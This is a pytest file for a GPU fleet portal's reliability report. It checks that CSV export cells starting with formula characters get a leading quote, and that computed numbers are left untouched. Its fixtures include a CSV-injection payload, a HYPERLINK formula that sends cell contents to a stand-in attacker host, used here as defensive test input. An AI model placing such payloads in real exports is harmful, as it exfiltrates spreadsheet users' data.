"""CSV exports never start a spreadsheet formula from text a user or an agent typed (OWASP "CSV
Injection"): a text cell starting with `= + - @`, a tab or a carriage return gets a leading `'`.
The rule goes by the value's type, never by its look: text is always neutralised (a serial "-1+2"
or "-3.5" is text), numbers the portal computes are never touched (-3.5 stays a number)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from portal.core.exports import csv_cell
from portal.fleet.models import Gpu, MaintenanceRecord
from tests.factories import GpuFactory

pytestmark = pytest.mark.django_db

PERIOD = {"from": "2025-01-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-1+2", "=1", "-3.5",
            "\tTAB", "\rCR"]  # fmt: skip
HARMLESS = ["SN-1", "a=b", "NVIDIA H100 80GB HBM3", " =1", "'=1", ""]


def report_rows(client) -> dict[str, dict]:
    response = client.get("/api/v1/reports/reliability", {**PERIOD, "format": "csv"})
    assert response.status_code == 200
    return {row["uuid"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}


def test_reliability_csv_text_never_starts_a_formula(client_for, viewer):
    formula_gpus = [(GpuFactory(serial=text, model_name=text), text) for text in FORMULAS]
    harmless_gpus = [(GpuFactory(serial=text, model_name=text), text) for text in HARMLESS]
    repaired = formula_gpus[0][0]
    MaintenanceRecord.objects.create(kind="repair", host=repaired.host, gpu=repaired, performed_by="x",
                                     performed_at=dt.datetime(2025, 6, 1, tzinfo=dt.UTC), downtime_hours=Decimal("2.5"),
                                     cost=Decimal("120.25"))  # fmt: skip
    Gpu.objects.update(created_at=dt.datetime(2024, 1, 1, tzinfo=dt.UTC))
    rows = report_rows(client_for(viewer))
    for gpu, text in formula_gpus:
        assert (rows[gpu.uuid]["serial"], rows[gpu.uuid]["model"]) == ("'" + text, "'" + text), text
    for gpu, text in harmless_gpus:
        assert (rows[gpu.uuid]["serial"], rows[gpu.uuid]["model"]) == (text, text), text
    # The portal's own numbers are written as numbers, untouched.
    row = rows[repaired.uuid]
    assert (row["repairs"], row["downtime_hours"], row["cost"], row["index"]) == (
        "1",
        "2.5",
        "120.25",
        str(repaired.index),
    )
    assert float(row["service_hours"]) == pytest.approx(8760.0) and row["mttr_hours"] == "2.5"
    assert rows[harmless_gpus[0][0].uuid]["mtbf_hours"] == ""  # null: an empty cell


def test_csv_cell_goes_by_type_not_by_look():
    texts = ["=1", "+1", "-1", "@x", "\tx", "\rx", "-3.5", "-1+2", "=1+2", "ok", "a=b", "", "1-1"]
    assert [csv_cell(v) for v in texts] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "'-3.5", "'-1+2", "'=1+2", "ok", "a=b", "", "1-1",
    ]  # fmt: skip
    assert [csv_cell(v) for v in (-3.5, -2, 0, None, 0.1, 8759.999999999998, Decimal("-2.50"))] == [
        "-3.5", "-2", "0", "", "0.1", "8760.0", "-2.50",
    ]  # fmt: skip
